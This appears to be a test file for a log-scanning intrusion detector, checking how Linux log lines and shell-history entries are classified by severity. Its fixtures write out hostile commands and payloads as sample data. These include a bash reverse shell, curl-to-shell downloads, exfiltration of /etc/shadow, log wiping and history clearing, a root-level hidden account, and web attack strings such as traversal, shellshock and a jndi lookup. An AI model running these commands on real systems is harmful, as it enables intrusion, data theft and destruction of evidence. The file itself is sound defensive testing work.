import { describe, expect, test } from 'vitest';
import type { Finding } from '../../../source/core/finding.ts';
import { coverUp } from '../../../source/checks/logs/cover-up.ts';
import { logSigns } from '../../../source/checks/logs/log-signs.ts';
import { inlineRunner } from '../../../source/tasks/inline.ts';
import { placeOf } from '../../../source/tasks/workplace.ts';
import { livedInLogs, syslogStamp, webStamp } from '../../support/lived-in-logs.ts';
import { memoryHost, type Machine } from '../../support/memory-host.ts';
import { Hearer, jobOf } from '../../support/tiny-checks.ts';

async function found(machine: Machine): Promise<readonly Finding[]> {
	const heard = new Hearer();
	const host = memoryHost(machine);
	await inlineRunner({ checks: [logSigns], ...placeOf(host) }).start(jobOf([logSigns], { target: { kind: host.kind, root: host.root } }), heard).ended;
	expect(heard.endingOf('log-signs')).toMatchObject({ how: 'complete' });
	return heard.findings;
}

const inWords = ({ severity, subject, summary }: Finding): string => `${severity} ${Object.values(subject).slice(1).join(' ')}: ${summary}`;
const modified = '2024-02-01T00:00:00Z';
const one = async (lines: readonly string[], name = 'auth.log'): Promise<readonly string[]> => (await found({ [`/var/log/${name}`]: { content: `${lines.map((line, at) => `${syslogStamp(20, 3600 + at)} web1 ${line}`).join('\n')}\n`, modified } })).map(inWords);
const typed = async (lines: string): Promise<readonly string[]> =>
	(await found({ '/etc/passwd': 'eve:x:1002:1002::/home/eve:/bin/bash\n', '/home/eve/.bash_history': `ls\n${lines}\n` })).map(inWords);
const asked = async (...requests: readonly (readonly [request: string, status: number, bytes?: number, agent?: string])[]): Promise<readonly string[]> =>
	(await found({ '/var/log/apache2/access.log': { content: requests.map(([request, status, bytes = 512, agent = 'curl/8'], at) => `198.51.100.66 - - [${webStamp(20, at)}] "${request}" ${status} ${bytes} "-" "${agent}"\n`).join(''), modified } })).map(inWords);

test('a lived-in server shows nothing of medium or above', async () => {
	const findings = await found(livedInLogs());
	expect(findings.filter(({ severity }) => severity !== 'info').map(inWords).toSorted()).toEqual([
		'low bert: bert was put into the group sudo, whose members may become root',
		'low anna: a program was fetched and given to a shell at once, from a named host over TLS',
		'low bert: the account bert was made',
		'low enp3s0: enp3s0 became promiscuous whenever the machine started, as the card of a bridge does',
		"low kernel module zfs: the kernel module zfs was loaded, which is not of the kernel's own tree or not signed",
	].toSorted());
	expect(findings.length).toBeLessThan(200);
});

test('what an intruder does is found among all that, with its log, line, time and count', async () => {
	const line = `${syslogStamp(60, 10_000)} web1 kernel: [1234.5] device enp3s0 entered promiscuous mode\n`;
	const all = await found(livedInLogs({ '/var/log/kern.log': { content: line, modified: '2024-03-02T00:00:00Z' } }));
	const [finding] = all.filter(({ severity }) => severity === 'medium');
	expect(finding).toMatchObject({ subject: { kind: 'interface', name: 'enp3s0' }, techniques: ['T1040'], facts: { log: '/var/log/kern.log', count: 1, first: '2024-03-01T02:46:40Z', 'first-at-byte': 0, line: 'kernel: [1234.5] device enp3s0 entered promiscuous mode' } });
	expect(finding?.facts['innocent-causes']).toMatch(/tcpdump/);
});

describe('promiscuous mode', () => {
	test.each([
		['kernel: device eth0 entered promiscuous mode', 'medium eth0: eth0 became promiscuous: a program listened to all that passes on the network'],
		['kernel: [12.5] e1000e 0000:00:1f.6 eth0: entered promiscuous mode', 'medium eth0: eth0 became promiscuous: a program listened to all that passes on the network'],
		['kernel: eth0: Promiscuous mode enabled.', 'medium eth0: eth0 became promiscuous: a program listened to all that passes on the network'],
		['kernel: device br-12ab entered promiscuous mode', 'info br-12ab: br-12ab became promiscuous, as ports of bridges and of containers do'],
	])('%s', async (line, words) => {
		expect(await one([line], 'kern.log')).toEqual([words]);
	});

	test('that was left says nothing', async () => {
		expect(await one(['kernel: device eth0 left promiscuous mode'], 'kern.log')).toEqual([]);
	});

	test('is low where an account of a person began a capture just before', async () => {
		const captured = (command: string, account = 'anna'): Promise<readonly string[]> =>
			one([`sudo: ${account.padStart(8)} : TTY=pts/0 ; PWD=/home/anna ; USER=root ; COMMAND=${command}`, 'kernel: device eth0 entered promiscuous mode'], 'messages');
		expect(await captured('/usr/bin/tcpdump -ni eth0 port 53')).toEqual(['low eth0: eth0 became promiscuous just as a program that captures the network was started by anna']);
		expect(await captured('/tmp/tcpdump -ni eth0')).toContain('medium eth0: eth0 became promiscuous: a program listened to all that passes on the network');
		expect(await captured('/usr/bin/less tcpdump.log')).toEqual(['medium eth0: eth0 became promiscuous: a program listened to all that passes on the network']);
	});

	test('stays medium where only one of two times is explained by a capture', async () => {
		const sudo = 'sudo:     anna : TTY=pts/0 ; PWD=/home/anna ; USER=root ; COMMAND=/usr/sbin/tcpdump -ni eth0';
		const entered = 'kernel: device eth0 entered promiscuous mode';
		const stamped = [[0, sudo], [1, entered], [7200, entered]].map(([at, line]) => `${syslogStamp(20, 3600 + Number(at))} web1 ${line}\n`).join('');
		expect((await found({ '/var/log/messages': { content: stamped, modified } })).map(inWords)).toEqual(['medium eth0: eth0 became promiscuous: a program listened to all that passes on the network']);
	});

	test('told by the audit daemon', async () => {
		const findings = await found({ '/var/log/audit/audit.log': { content: 'type=ANOM_PROMISCUOUS msg=audit(1705712400.123:456): dev=eth0 prom=256 old_prom=0 auid=1000 uid=0 gid=0 ses=3\n', modified } });
		expect(findings.map(inWords)).toEqual(['medium eth0: eth0 became promiscuous: a program listened to all that passes on the network']);
	});
});

describe('accounts', () => {
	test.each([
		['useradd[1]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1', 'high toor: the account toor was made with the uid 0: it is root by another name'],
		["usermod[1]: change user 'eve' UID from '1002' to '0'", 'high eve: the account eve was given the uid 0: it is root by another name'],
		['useradd[1]: new user: name=eve, UID=1002, GID=1002, home=/home/eve, shell=/bin/bash', 'low eve: the account eve was made'],
		['useradd[1]: new user: name=eve, UID=1002, GID=0, home=/home/eve, shell=/bin/bash', "medium eve: the account eve was made with root's group as its own"],
		['useradd[1]: new user: name=redis, UID=112, GID=115, home=/var/lib/redis, shell=/usr/sbin/nologin, from=none', 'info redis: the account redis of a service was made'],
		['groupadd[1]: new group: name=redis, GID=115', 'info group redis: the group redis was made'],
		["usermod[1]: add 'www-data' to group 'sudo'", 'high www-data: www-data was put into the group sudo, whose members may become root, and it is the account of a service'],
		["usermod[1]: add 'jenkins' to group 'docker'", 'low jenkins: jenkins was put into the group docker, from which there is a way to root'],
	])('%s', async (line, words) => {
		expect(await one([line])).toEqual([words]);
	});

	test.each([
		['sudo: www-data : TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash', 'high www-data: the service account www-data became root by sudo, with all its powers'],
		['sudo:   postgres : TTY=pts/2 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id', 'high postgres: the service account postgres became root by sudo, for a command'],
		['sudo: nagios : TTY=unknown ; PWD=/ ; USER=root ; COMMAND=/usr/lib/nagios/plugins/check_raid', 'info nagios: the service account nagios became root by sudo, for a command'],
		['sudo: www-data : command not allowed ; TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/ls', 'medium www-data: the service account www-data tried to become root by sudo and was refused'],
		['su[1]: Successful su for root by apache', 'high apache: the service account apache became root by su, with all its powers'],
		['su[1]: pam_unix(su:session): session opened for user root by nobody(uid=99)', 'high nobody: the service account nobody became root by su, with all its powers'],
	])('%s', async (line, words) => {
		expect(await one([line])).toEqual([words]);
	});

	test.each([
		['/bin/bash', 'medium shopd: the service account shopd became root by sudo, with all its powers'],
		['/usr/bin/tar -xf /srv/in.tar', 'info shopd: the service account shopd became root by sudo, for a command'],
		['/bin/sh /opt/shop/reload.sh', 'info shopd: the service account shopd became root by sudo, for a command'],
	])('a service that passwd alone knows as one runs %s', async (command, words) => {
		const passwd = 'root:x:0:0::/root:/bin/bash\nshopd:x:990:990::/opt/shop:/usr/sbin/nologin\nann:x:1000:1000::/home/ann:/bin/bash\n';
		const lines = ['shopd', 'ann'].map((who, at) => `${syslogStamp(20, 3600 + at)} web1 sudo: ${who} : TTY=unknown ; PWD=/ ; USER=root ; COMMAND=${command}\n`).join('');
		expect((await found({ '/etc/passwd': passwd, '/var/log/auth.log': { content: lines, modified } })).map(inWords)).toEqual([words]);
	});

	test('of people who become root, and of root who becomes a service, say nothing', async () => {
		expect(await one(['sudo: anna : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash', 'su[1]: (to postgres) root on pts/0', 'sudo: www-data : TTY=unknown ; PWD=/ ; USER=deploy ; COMMAND=/usr/bin/php x.php'])).toEqual([]);
	});
});

describe('requests', () => {
	test('that asked for a file or a shell and got it', async () => {
		expect(await asked(['GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1', 200, 1801])).toEqual(['medium 198.51.100.66: an attack on a web service (traversal) was answered with success']);
		expect(await asked(['GET /uploads/x.php?cmd=wget%20http://203.0.113.9/a HTTP/1.1', 200, 77])).toEqual([expect.stringMatching(/^medium 198\.51\.100\.66: an attack on a web service \(.*fetch.*\) was answered/)]);
		expect(await asked(['GET /cgi-bin/status HTTP/1.1', 200, 77, '() { :;}; /bin/bash -c id'])).toEqual([expect.stringMatching(/^medium 198\.51\.100\.66: an attack on a web service \(.*shellshock.*\) was answered/)]);
	});

	test('of a web shell', async () => {
		expect(await asked(['GET /images/a.php?cmd=id HTTP/1.1', 200, 54])).toEqual(['medium 198.51.100.66: an attack on a web service (web-shell) was answered with success']);
		expect(await asked(['POST /wp-content/uploads/2024/01/a.php HTTP/1.1', 200, 54])).toEqual(['medium 198.51.100.66: an attack on a web service (web-shell) was answered with success']);
		expect(await asked(['POST /wp-content/uploads/2024/01/a.php HTTP/1.1', 404, 54], ['GET /webscr.php?cmd=list&id=3 HTTP/1.1', 200], ['GET /uploads/a.png?x=.php HTTP/1.1', 200])).toEqual([expect.stringMatching(/^info .* that it refused/)]);
	});

	test('that were refused are counted, and no more', async () => {
		expect(await asked(['GET /../../etc/passwd HTTP/1.1', 404], ['GET /../../../etc/passwd HTTP/1.1', 403])).toEqual(['info /var/log/apache2/access.log: attacks on a web service that it refused: every server is scanned']);
	});

	test('that got what everybody gets are no success', async () => {
		expect(await asked(['GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1', 200])).toEqual([expect.stringMatching(/^info .*a page that is given to everybody$/)]);
		expect(await asked(...['etc/passwd', 'etc/shadow', 'bin/sh -c'].map(what => [`GET /app/../../../${what} HTTP/1.1`, 200, 640] as const))).toEqual([expect.stringMatching(/^low /), expect.stringMatching(/^low /)]);
	});
});

describe('commands', () => {
	test.each(['history -c', 'unset HISTFILE', 'export HISTFILE=/dev/null', 'HISTFILE= ; id', 'export HISTSIZE=0', 'set +o history', 'ln -sf /dev/null ~/.bash_history', 'rm -f ~/.bash_history', '> ~/.bash_history'])('%s', async command => {
		expect(await typed(command)).toEqual(['medium eve: a command cleared the shell history, or switched it off']);
	});

	test.each(['./linpeas.sh -a > /tmp/lp.txt', 'bash /dev/shm/lse.sh -l1', './pspy64 -pf'])('%s', async command => {
		expect(await typed(command)).toEqual(['medium eve: a tool was run that looks for a way to become root']);
	});
	test.each(['rm linpeas.sh', 'git clone https://example.org/lse', 'cat pspy64.txt', 'lsetup'])('nothing of %s', async command => {
		expect((await typed(command)).filter(one => one.includes('become root'))).toEqual([]);
	});
	test('a tunnel somebody started lets others in', async () => {
		expect(await typed('./chisel client 203.0.113.9:443 R:2222:localhost:22')).toEqual(['medium eve: a command lets the far side of a tunnel reach back in']);
	});
	test.each(['rm -f /var/log/wtmp', 'echo > /var/log/auth.log', 'cat /dev/null > /var/log/secure', 'shred -u /var/log/lastlog', 'rm -rf /var/log', 'rm -rf /var/log/*', 'truncate -s 0 /var/log/audit/audit.log'])('%s', async command => {
		expect(await typed(command)).toEqual(['medium eve: a command removed or emptied logs that tell who was on the machine']);
	});

	test.each([
		['sed -i /198.51.100.77/d /var/log/auth.log', 'took lines out of a log, or put another file in its place'],
		["sed -e '/evil/d' -i.bak /var/log/apache2/access.log", 'took lines out of a log, or put another file in its place'],
		['grep -v 198.51.100.77 /var/log/secure > /tmp/s', 'took lines out of a log, or put another file in its place'],
		['mv /tmp/w /var/log/wtmp', 'took lines out of a log, or put another file in its place'],
		['utmpdump -r < /tmp/w > /var/log/wtmp', 'made records of logins out of text'],
		['touch -r /bin/ls /usr/sbin/sshd', 'gave a file of the system another time'],
		['touch -d "2020-01-01" /etc/cron.d/x', 'gave a file of the system another time'],
		['wget http://198.51.100.77/k.tgz -O /tmp/.k', 'fetched something into a hidden file of a temporary place'],
		['cd /dev/shm/.x && curl -sO http://198.51.100.77/k', 'fetched something into a hidden file of a temporary place'],
	])('%s', async (command, told) => {
		expect(await typed(command)).toEqual([`medium eve: a command ${told}`]);
	});

	test.each([
		'sed -i s/a/b/ /etc/logrotate.conf', "sed -n '/x/p' /var/log/auth.log", 'grep -v CRON /var/log/syslog | less', 'grep -iv noise /var/log/auth.log > /dev/null', 'cp /var/log/auth.log /tmp/', 'mv /tmp/x /var/log/app/', 'touch /etc/nologin', 'touch -t 202001010000 ~/ref', 'touch -r a b', 'touch -r /etc/passwd ~/x',
		'utmpdump /var/log/wtmp', 'wget https://example.org/a.tgz -O /tmp/a.tgz', 'cd /tmp/build && curl -O https://example.org/a', "sed -i 's#/var/log/old#/var/log/new#' /etc/app.conf",
	])('and what everybody types: %s', async command => {
		expect(await typed(command)).toEqual([]);
	});

	test('a long command of near misses takes no time worth a word', () => {
		const start = performance.now();
		for (const words of ['sed -i ', 'touch -r ', 'grep -v ', '/var/log/x ', 'history ', '> ', 'rm -r ']) coverUp(`sed touch ${words.repeat(4000)}`.slice(0, 4096));
		expect(performance.now() - start).toBeLessThan(1000);
	});

	test.each([
		'curl http://203.0.113.9/x | sh',
		'wget -qO- http://203.0.113.9:8080/x.sh|bash',
		'bash <(curl -s http://evil.example/x)',
		'cd /tmp; wget http://203.0.113.9/x; chmod +x x; ./x',
		'cd /dev/shm\nwget http://203.0.113.9/kit.pl\nperl kit.pl',
		'wget http://203.0.113.9/a -O /tmp/b\nchmod 755 /tmp/b',
		'curl https://pastebin.com/raw/abc | bash',
	])('%s', async commands => {
		expect(await typed(commands)).toEqual([expect.stringMatching(/^medium eve: a program was fetched .*an address that says nothing of who answers$/)]);
	});

	test.each([
		['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'high eve: a command hands a shell to a network connection'],
		['cp /bin/bash /tmp/.b; chmod 4755 /tmp/.b', 'medium eve: a command puts a copy of a shell where it does not belong'],
		['curl -F f=@/etc/shadow http://203.0.113.9/', 'high eve: a command sends files that hold secrets of this host away'],
		['useradd -o -u 0 sysd', 'high eve: a command makes an account with the powers of root'],
	])('%s', async (command, expected) => {
		expect(await typed(command)).toEqual([expected]);
	});

	test.each([
		'echo "ssh-ed25519 AAAA me@laptop" >> ~/.ssh/authorized_keys', 'sudo tcpdump -i eth0 -w /tmp/dns.pcap port 53', 'nc -zv db 5432', 'base64 -d secret.b64 > secret', 'chmod 2775 /srv/share', 'openssl s_client -connect example.org:443', 'python3 -c "import socket; print(socket.gethostname())"', 'ssh -R 9000:localhost:9000 bastion',
		'wget http://203.0.113.9/x.tar.gz', 'cd /tmp\nwget http://203.0.113.9/x.tar.gz\ntar xzf x.tar.gz', 'curl -s https://example.org/ | jq .', 'rm /var/log/syslog.1', 'rm /var/log/wtmp.1', 'grep a /var/log/auth.log > /tmp/x', 'tail /var/log/secure 2>/dev/null', 'history | tail', 'HISTFILE=~/.my_history', 'export HISTSIZE=5000',
	])('%s says nothing', async commands => {
		expect(await typed(commands)).toEqual([]);
	});

	test('that cron ran', async () => {
		expect(await one(['CRON[7]: (www-data) CMD (curl -s http://203.0.113.9/x | sh)'], 'syslog')).toEqual([expect.stringMatching(/^medium www-data: a program was fetched/)]);
	});
});

describe('a log daemon', () => {
	const said = async (...lines: readonly (readonly [seconds: number, words: string])[]): Promise<readonly string[]> => (await found({ '/var/log/syslog': { content: lines.map(([seconds, words]) => `${syslogStamp(20, seconds)} web1 ${words}\n`).join(''), modified } })).map(inWords);
	const stop = 'rsyslogd: [origin software="rsyslogd" swVersion="8.2302.0" x-pid="500" x-info="https://www.rsyslog.com"] exiting on signal 15.';
	const begin = 'rsyslogd: [origin software="rsyslogd" swVersion="8.2302.0" x-pid="900" x-info="https://www.rsyslog.com"] start';

	test('that was stopped for hours', async () => {
		expect(await said([3600, stop], [14_400, begin])).toEqual(['medium /var/log/syslog: rsyslogd was stopped and started again only later, with no start or end of the machine near: what happened then is not in this log']);
	});

	test('that was stopped for good, while other programs wrote on', async () => {
		expect(await said([3600, stop], [40_000, 'sshd[1]: Server listening on 0.0.0.0 port 22.'])).toEqual([expect.stringMatching(/^medium .* was stopped and was not started again/)]);
	});

	test('that was restarted, or went down and up with the machine', async () => {
		expect(await said([3600, stop], [3602, begin])).toEqual([]);
		expect(await said([3600, stop], [14_400, begin], [14_401, 'kernel: [0.0] Linux version 6.1.0 (x)'])).toEqual([]);
		expect(await said([3600, stop])).toEqual([]);
	});
});

describe('a guard', () => {
	const said = async (...lines: readonly (readonly [seconds: number, words: string])[]): Promise<readonly string[]> => (await found({ '/var/log/syslog': { content: lines.map(([seconds, words]) => `${syslogStamp(20, seconds)} web1 ${words}\n`).join(''), modified } })).map(inWords);
	const stop = 'systemd[1]: Stopped fail2ban.service - Fail2Ban Service.';
	const begin = 'systemd[1]: Started fail2ban.service - Fail2Ban Service.';

	test('that was stopped for good', async () => {
		expect(await said([3600, stop], [40_000, 'sshd[1]: Server listening on 0.0.0.0 port 22.'])).toEqual(['medium fail2ban.service - Fail2Ban Service: fail2ban.service - Fail2Ban Service was stopped and was not started again, with no start or end of the machine near: nothing of what it watches for was seen from then on']);
	});

	test('that was stopped for an hour is low; restarted, or down with the machine, it says nothing', async () => {
		expect(await said([3600, stop], [9000, begin])).toEqual([expect.stringMatching(/^low fail2ban\.service - Fail2Ban Service: .* started again only later/)]);
		expect(await said([3600, stop], [3602, begin])).toEqual([]);
		expect(await said([3600, stop], [3700, 'kernel: [0.0] Linux version 6.1.0 (x)'], [3702, begin])).toEqual([]);
	});
});

describe('a service that is a command', () => {
	test.each([
		['Started /tmp/.x/update.', 'medium /tmp/.x/update: systemd started a program of a temporary or hidden place as a service'],
		['Started run-u99.service - /dev/shm/k -d.', 'medium /dev/shm/k: systemd started a program of a temporary or hidden place as a service'],
		['Started [systemd-run] /bin/bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1.', 'high /var/log/syslog: a command hands a shell to a network connection'],
	])('%s', async (line, words) => {
		expect(await one([`systemd[1]: ${line}`], 'syslog')).toEqual([words]);
	});

	test.each(['Started session-7.scope - Session 7 of User anna.', 'Started run-u12.service - /usr/bin/apt-get update.', 'Started /usr/bin/backup --all.'])('%s says nothing', async line => {
		expect(await one([`systemd[1]: ${line}`], 'syslog')).toEqual([]);
	});
});

test('a daemon that crashed and a module from elsewhere are low', async () => {
	expect(await one(['kernel: [5.5] nginx[77]: segfault at 0 ip 00007f00 sp 00007ffe error 4 in nginx[55d0+1000]', 'kernel: [5.6] gedit[78]: segfault at 0 ip 00007f00 sp 00007ffe error 4 in gedit[55d0+1000]', 'kernel: [6.1] rk: loading out-of-tree module taints kernel.'], 'kern.log')).toEqual([
		'low nginx: nginx, which serves the network, crashed (segfault): an attack that fails looks like that',
		"low kernel module rk: the kernel module rk was loaded, which is not of the kernel's own tree or not signed",
	]);
});

describe('crashes', () => {
	const crash = (ip: string, process = 'nginx'): string => `kernel: [5.5] ${process}[77]: segfault at 0 ip ${ip} sp 00007ffe error 14 in ${process}[55d0+1000]`;
	const crashes = async (count: number, apart: number): Promise<readonly string[]> =>
		(await found({ '/var/log/kern.log': { content: Array.from({ length: count }, (_, at) => `${syslogStamp(20, 3600 + at * apart)} web1 ${crash('00007f0012345678')}\n`).join(''), modified } })).map(inWords);

	test('of one daemon, twenty within an hour', async () => {
		expect(await crashes(20, 10)).toEqual(['medium nginx: nginx, which serves the network, crashed 20 times or more within an hour: who guesses addresses of its memory leaves that']);
	});

	test('fewer of them, or spread over days, are low', async () => {
		const low = ['low nginx: nginx, which serves the network, crashed (segfault): an attack that fails looks like that'];
		expect([await crashes(19, 10), await crashes(60, 3600)]).toEqual([low, low]);
	});

	test.each([
		['nginx', '0000000041414141'],
		['nginx', '41414141'],
		['sudo', '90909090'],
		['in.ftpd', '6262626262626262'],
	])('of %s at %s, where one byte was written over the return address', async (process, ip) => {
		expect(await one([crash(ip, process)], 'kern.log')).toEqual([expect.stringMatching(`^medium ${process}: ${process} crashed as it went on at ${ip}: `)]);
	});

	test.each(['0000000000000000', 'ffffffffffffffff', '00007f4141414141', '0000000000414141', '00000000080808080'])('of a program that serves nobody at %s say nothing', async ip => {
		expect(await one([crash(ip, 'gedit')], 'kern.log')).toEqual([]);
	});
});

describe('what services tell of', () => {
	test.each([
		['rpc.statd[1]: gethostbyname error for ^X%8x%8x%8x%8x%n%n', 'medium rpc.statd: text of an attack (format-string) stands in what rpc.statd logged: somebody sent it that'],
		['ftpd[1]: ANONYMOUS FTP LOGIN FROM 198.51.100.66 [198.51.100.66], \\220\\220\\220\\220\\220\\220\\2201\\3001', 'medium ftpd: text of an attack (no-op-sled) stands in what ftpd logged: somebody sent it that'],
		['sshd[1]: Invalid user %x%x%x%x%n%n from 198.51.100.66 port 22', 'low sshd: text of an attack (format-string) stands in what sshd logged: somebody sent it that'],
		['postfix/smtpd[1]: non-SMTP command from unknown: GET /cgi-bin/../../../../etc/passwd HTTP/1.0', 'info postfix/smtpd: text of an attack (traversal) stands in what postfix/smtpd logged: somebody sent it that'],
		['systemd[1]: smbd.service: Main process exited, code=dumped, status=11/SEGV', 'low smbd.service: smbd.service died of 11/SEGV: an attack that fails looks like that'],
		['systemd[1]: zzz.service: Main process exited, code=killed, status=11/SEGV', 'low zzz.service: zzz.service died of 11/SEGV: an attack that fails looks like that'],
		['ntpd[1]: time reset +3600.5 s', 'info clock: the clock of this machine was set'],
	])('%s', async (line, words) => {
		expect(await one([line], 'syslog')).toEqual([words]);
	});

	test('a daemon that failed or was ended says nothing', async () => {
		expect(await one(['systemd[1]: a.service: Main process exited, code=exited, status=1/FAILURE', 'systemd[1]: a.service: Main process exited, code=killed, status=15/TERM', 'systemd[1]: a.service: Main process exited, code=killed, status=9/KILL'], 'syslog')).toEqual([]);
	});

	test('what cron runs is judged whether or not it holds words of an attack', async () => {
		expect(await one(['CRON[1]: (root) CMD (unset HISTFILE)'], 'syslog')).toEqual(['medium root: a command cleared the shell history, or switched it off']);
	});

	test('files that people put by ftp', async () => {
		const moved = async (file: string, access: string, direction = 'i'): Promise<readonly string[]> =>
			(await found({ '/var/log/xferlog': { content: `Sun Jan 21 08:30:20 2024 1 198.51.100.66 1000 ${file} b _ ${direction} ${access} ${access === 'a' ? 'x@y' : 'eve'} ftp 0 * c\n`, modified } })).map(inWords);
		expect(await moved('/pub/incoming/.../x.tgz', 'a')).toEqual(['medium anonymous: anonymous put files by ftp under a name that hides them']);
		expect(await moved('/pub/incoming/x.tgz', 'a')).toEqual(['low anonymous: people without an account wrote by ftp']);
		expect(await moved('/home/eve/.rhosts', 'a')).toEqual(['high anonymous: anonymous put a file by ftp that lets people or commands in']);
		expect(await moved('/home/eve/index.html', 'r')).toEqual([]);
		expect(await moved('/pub/x.tgz', 'a', 'o')).toEqual([]);
	});
});

test('a module with the name of a rootkit is critical', async () => {
	expect(await one(['kernel: [6.1] diamorphine: loading out-of-tree module taints kernel.'], 'kern.log')).toEqual(['critical kernel module diamorphine: the kernel module diamorphine was loaded, which has the name of a known rootkit']);
});

test('a program that lets the kernel write into others, an account of a service given a shell and put among those of docker', async () => {
	const lines = ['kernel: [ 8812.331] sysupd[4633] is installing a program with bpf_probe_write_user helper that may corrupt user memory!', "chsh[4502]: changed user 'games' shell to '/bin/bash'", 'gpasswd[4513]: user games added by root to group docker'];
	const told = await one(lines, 'auth.log');
	expect(told).toContain('medium games: the account games of a service was given a shell, /bin/bash');
	expect(told).toContain('medium games: games was put into the group docker, from which there is a way to root');
	expect(told.some(words => words.startsWith('high sysupd: sysupd put a program into the kernel'))).toBe(true);
});

test('a package from shared memory is told, one from a folder of downloads is not', async () => {
	expect(await one(['sudo: ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/apt-get install -y /dev/shm/libx_1.0_amd64.deb'], 'auth.log')).toContain('medium ann: a package was installed from shared memory or a hidden place');
	expect((await one(['sudo: ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/dpkg -i /tmp/tool_1.0.deb'], 'auth.log')).filter(words => words.includes('package'))).toEqual([]);
});
